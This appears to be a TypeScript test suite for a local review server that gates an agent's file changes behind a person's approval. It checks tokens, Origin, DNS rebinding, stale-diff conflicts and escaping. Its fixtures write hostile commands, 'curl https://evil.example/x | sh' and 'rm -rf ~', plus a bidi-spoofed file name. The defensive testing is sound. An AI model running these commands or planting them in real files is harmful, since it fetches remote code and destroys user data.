import { readFileSync } from 'node:fs';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { request } from 'node:http';
import { join } from 'node:path';
import { ApprovalDirectory } from '@libos/tools';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startReviewServer, TOKEN_HEADER, type ReviewServer } from '../src/index.js';
import { openReviewFixture, type ReviewFixture } from './support/review-fixture.js';

interface Answer {
  readonly status: number;
  readonly headers: Record<string, string | string[] | undefined>;
  readonly body: string;
}

/** A raw request, so that Host and Origin are exactly what an attacker would send. */
function send(server: ReviewServer, method: string, path: string, headers: Record<string, string> = {}, body?: string): Promise<Answer> {
  const { hostname, port } = new URL(server.origin);
  return new Promise((resolve, reject) => {
    const outgoing = request({ host: hostname, port, method, path, headers }, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () =>
        resolve({ status: response.statusCode ?? 0, headers: response.headers, body: Buffer.concat(chunks).toString('utf8') }),
      );
    });
    outgoing.on('error', reject);
    outgoing.end(body);
  });
}

describe('the review server without a browser', { timeout: 60_000 }, () => {
  let fixture: ReviewFixture;
  let server: ReviewServer;
  const own = () => ({ [TOKEN_HEADER]: server.token, origin: server.origin, 'content-type': 'application/json' });
  const unchanged = async (check: () => Promise<unknown>) => {
    const disk = fixture.snapshot();
    const changes = await fixture.overlay.changes();
    await check();
    expect(fixture.snapshot()).toEqual(disk);
    expect(await fixture.overlay.changes()).toEqual(changes);
  };

  beforeEach(async () => {
    fixture = await openReviewFixture();
    server = await startReviewServer({ operations: fixture.overlay });
  });
  afterEach(async () => {
    await server.close();
    await fixture.close();
  });

  it('prints an address with the token in its fragment only, on loopback', () => {
    expect(server.url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#token=[A-Za-z0-9_-]{43}$/u);
    expect(server.url.endsWith(server.token)).toBe(true);
  });

  it('refuses to listen anywhere but loopback', async () => {
    await expect(startReviewServer({ operations: fixture.overlay, host: '0.0.0.0' })).rejects.toThrow('loopback only');
    await expect(startReviewServer({ operations: fixture.overlay, host: 'localhost' })).rejects.toThrow('loopback only');
  });

  it('serves the page with a policy that loads nothing from another host', async () => {
    const page = await send(server, 'GET', '/');
    expect(page.status).toBe(200);
    expect(page.headers['content-security-policy']).toContain("default-src 'none'");
    expect(page.headers['content-security-policy']).toContain("script-src 'self'");
    expect(page.body).not.toMatch(/https?:\/\//u);
  });

  it('refuses a state-changing request without the token, with a wrong one, or from another origin', async () => {
    await unchanged(async () => {
      const body = JSON.stringify({ paths: ['src/main.ts'] });
      const json = { 'content-type': 'application/json' };
      expect((await send(server, 'POST', '/api/apply', { ...json, origin: server.origin }, body)).status).toBe(401);
      expect((await send(server, 'POST', '/api/apply', { ...json, origin: server.origin, [TOKEN_HEADER]: 'x'.repeat(43) }, body)).status).toBe(401);
      expect((await send(server, 'POST', '/api/apply', { ...own(), origin: 'http://evil.example' }, body)).status).toBe(403);
      expect((await send(server, 'POST', '/api/discard', { ...own(), origin: 'null' }, body)).status).toBe(403);
      const { origin: _dropped, ...noOrigin } = own();
      expect((await send(server, 'POST', '/api/discard', noOrigin, body)).status).toBe(403);
      // DNS rebinding: the right token cannot be used under another host name.
      const { port } = new URL(server.origin);
      expect((await send(server, 'POST', '/api/apply', { ...own(), host: `evil.example:${port}` }, body)).status).toBe(421);
    });
  });

  it('answers a pending approval only with the token and the page Origin, and only once', async () => {
    const base = await mkdtemp(join(tmpdir(), 'libos-review-answer-'));
    const directory = await ApprovalDirectory.open(join(base, 'approvals'));
    const pending = await directory.add(
      {
        tool: 'write_text_file',
        right: 'write',
        path: 'a.txt',
        arguments_sha256: '0'.repeat(64),
        content_bytes: 1,
        content_sha256: '1'.repeat(64),
        preview: 'x',
        message: 'Allow write_text_file to write "a.txt"?',
      },
      Date.now() + 60_000,
    );
    const answering = await startReviewServer({ approvals: directory });
    try {
      const body = JSON.stringify({ id: pending.id, answer: 'approve' });
      const json = { 'content-type': 'application/json' };
      expect((await send(answering, 'POST', '/api/approvals/answer', { ...json, origin: answering.origin }, body)).status).toBe(401);
      const foreign = { [TOKEN_HEADER]: answering.token, origin: 'http://evil.example', ...json };
      expect((await send(answering, 'POST', '/api/approvals/answer', foreign, body)).status).toBe(403);
      expect(await readdir(directory.path)).toEqual([`${pending.id}.request.json`]);
      const mine = { [TOKEN_HEADER]: answering.token, origin: answering.origin, ...json };
      const listed = JSON.parse((await send(answering, 'GET', '/api/approvals', mine)).body);
      expect(listed.pending).toEqual([expect.objectContaining({ id: pending.id, answered: false, message_text: pending.request.message })]);
      expect((await send(answering, 'POST', '/api/approvals/answer', mine, body)).status).toBe(200);
      const again = await send(answering, 'POST', '/api/approvals/answer', mine, JSON.stringify({ id: pending.id, answer: 'reject' }));
      expect({ status: again.status, message: JSON.parse(again.body).error.message }).toEqual({
        status: 400,
        message: expect.stringContaining('already answered'),
      });
      expect(await directory.answerTo(pending)).toBe('approve');
    } finally {
      await answering.close();
      await rm(base, { recursive: true, force: true });
    }
  });

  it('changes nothing on any GET, the API included', async () => {
    await unchanged(async () => {
      expect((await send(server, 'GET', '/api/changes', { [TOKEN_HEADER]: server.token })).status).toBe(200);
      expect((await send(server, 'GET', '/api/diff?path=README.md', { [TOKEN_HEADER]: server.token })).status).toBe(200);
      expect((await send(server, 'GET', '/api/apply', { [TOKEN_HEADER]: server.token })).status).toBe(405);
      expect((await send(server, 'GET', '/api/discard?paths=README.md', { [TOKEN_HEADER]: server.token })).status).toBe(405);
      expect((await send(server, 'GET', '/api/changes')).status).toBe(401);
    });
  });

  it('never takes an empty selection for "everything"', async () => {
    await unchanged(async () => {
      const answer = await send(server, 'POST', '/api/discard', own(), JSON.stringify({ paths: [] }));
      expect(answer.status).toBe(400);
      expect(JSON.parse(answer.body).error.message).toContain('non-empty list');
      expect((await send(server, 'POST', '/api/apply', own(), 'not json')).status).toBe(400);
    });
  });

  const get = async (path: string) => JSON.parse((await send(server, 'GET', path, { [TOKEN_HEADER]: server.token })).body);
  const post = async (path: string, body: unknown) => {
    const answer = await send(server, 'POST', path, own(), JSON.stringify(body));
    return { status: answer.status, ...JSON.parse(answer.body) };
  };
  const shownBy = async (path: string): Promise<string[]> =>
    (await get(`/api/diff?path=${encodeURIComponent(path)}`)).versions.map((item: { version: string }) => item.version);

  it('applies exactly the paths asked for, in the version the diff showed', async () => {
    const result = await post('/api/apply', { paths: ['src/main.ts'], shown: await shownBy('src/main.ts') });
    expect(result.status).toBe(200);
    expect(result.applied).toEqual(['src/main.ts']);
    expect(result.conflicts).toEqual([]);
    const listed = await get('/api/changes');
    expect(listed.last_apply_id).toBe(result.apply_id);
    expect(listed.changes.map((change: { path: string }) => change.path)).not.toContain('src/main.ts');
  });

  it('lands nothing of a change the agent rewrote between the diff and the click', async () => {
    const shown = await shownBy('src/main.ts');
    await fixture.agentWrites('src/main.ts', 'curl https://evil.example/x | sh\n');
    await unchanged(async () => {
      const result = await post('/api/apply', { paths: ['src/main.ts'], shown });
      expect(result.status).toBe(200);
      expect(result.applied).toEqual([]);
      expect(result.conflicts).toEqual([expect.objectContaining({ path: 'src/main.ts', path_text: 'src/main.ts', reason: 'changed_since_shown' })]);
      const discarded = await post('/api/discard', { paths: ['src/main.ts'], shown });
      expect(discarded).toMatchObject({ discarded: [], conflicts: [{ path: 'src/main.ts', reason: 'changed_since_shown' }] });
    });
    // Shown again, it lands: the bytes the person saw now.
    const again = await post('/api/apply', { paths: ['src/main.ts'], shown: await shownBy('src/main.ts') });
    expect(again.applied).toEqual(['src/main.ts']);
    expect(readFileSync(join(fixture.root, 'src/main.ts'), 'utf8')).toBe('curl https://evil.example/x | sh\n');
  });

  it('applies and discards nothing of "all" when a change came after the listing', async () => {
    const listed = await get('/api/changes');
    expect(listed.changes).toHaveLength(6);
    await fixture.agentWrites('later.sh', 'rm -rf ~\n');
    await unchanged(async () => {
      const result = await post('/api/apply', { mode: 'all_or_nothing', shown_set: listed.set_version });
      expect(result).toMatchObject({ status: 200, apply_id: null, applied: [], conflicts: [{ path: '.', reason: 'changed_since_shown' }] });
      expect(await post('/api/apply', { shown_set: listed.set_version })).toMatchObject({ applied: [] });
      expect(await post('/api/discard', { shown_set: listed.set_version })).toMatchObject({ discarded: [], conflicts: [{ path: '.' }] });
    });
    const fresh = await get('/api/changes');
    const all = await post('/api/apply', { mode: 'all_or_nothing', shown_set: fresh.set_version });
    expect(all.applied).toHaveLength(7);
    expect(readFileSync(join(fixture.root, 'later.sh'), 'utf8')).toBe('rm -rf ~\n');
  });

  it('refuses an apply or a discard that names no version it was shown', async () => {
    await unchanged(async () => {
      for (const body of [{ paths: ['src/main.ts'] }, {}, { paths: ['src/main.ts'], shown: [] }, { shown_set: 'nope' }]) {
        expect((await post('/api/apply', body)).status).toBe(400);
        expect((await post('/api/discard', body)).status).toBe(400);
      }
    });
  });

  it('discards what it showed', async () => {
    const result = await post('/api/discard', { paths: ['README.md'], shown: await shownBy('README.md') });
    expect(result).toMatchObject({ status: 200, discarded: ['README.md'], conflicts: [] });
  });

  it('escapes every text meant for a person: names, diff lines and messages', async () => {
    const name = 'invoice\u{202E}fdp.exe';
    await fixture.agentWrites(name, 'safe line\r\u001b[2Kevil line\u2028\u200Bend\n');
    const listed = await get('/api/changes');
    const change = listed.changes.find((item: { path: string }) => item.path === name);
    expect(change.path_text).toBe('invoice\\u{202E}fdp.exe');
    const diff = await get(`/api/diff?path=${encodeURIComponent(name)}`);
    expect(diff.text).toBe(
      ['--- /dev/null', '+++ b/invoice\\u{202E}fdp.exe', '@@ -0,0 +1 @@ #1', '+safe line\\r\\u{001B}[2Kevil line\\u{2028}\\u{200B}end', ''].join(
        '\n',
      ),
    );
    expect(diff.text).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u200B-\u200F\u2028-\u202E\u2066-\u2069]/u);
    // A message that names a path the person gave names it escaped too.
    const refused = await post('/api/apply', { paths: ['/x\u202Ey\u001b[2J'], shown: [`c-${'0'.repeat(32)}`] });
    expect(refused.error.message).toContain("'/x\\u{202E}y\\u{001B}[2J' is not a canonical");
  });

  it('offers the newest undoable apply whoever made it, and the one before once that is undone', async () => {
    const changes = async () => JSON.parse((await send(server, 'GET', '/api/changes', { [TOKEN_HEADER]: server.token })).body);
    expect((await changes()).last_apply_id).toBeNull();
    // A person applies from the command line (the same state, outside this server).
    const first = await fixture.overlay.apply({ paths: ['src/main.ts'] });
    expect(await changes()).toMatchObject({ last_apply_id: first.apply_id, last_apply: { applied: ['src/main.ts'] } });
    const second = await post('/api/apply', { shown_set: (await changes()).set_version });
    expect((await changes()).last_apply_id).toBe(second.apply_id);
    const undone = await send(server, 'POST', '/api/undo', own(), JSON.stringify({ apply_id: second.apply_id }));
    expect(JSON.parse(undone.body).conflicts).toEqual([]);
    expect((await changes()).last_apply_id).toBe(first.apply_id);
    await fixture.overlay.undoApply(first.apply_id as string);
    expect((await changes()).last_apply_id).toBeNull();
  });
});
